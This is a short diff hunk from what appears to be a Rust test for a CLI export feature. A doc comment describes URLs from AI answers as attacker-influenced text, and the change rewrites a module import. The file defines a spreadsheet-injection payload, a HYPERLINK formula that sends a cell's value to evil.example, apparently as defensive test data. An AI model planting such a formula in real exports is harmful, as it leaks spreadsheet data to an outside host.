@@ -4,9 +4,7 @@
 //! does (docs/cli.md). Observed URLs come from AI answers, so they are attacker-influenced
 //! text. JSONL keeps every value exactly as stored.
 
-mod common;
-
-use common::ledger;
+use crate::common::ledger;
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
 
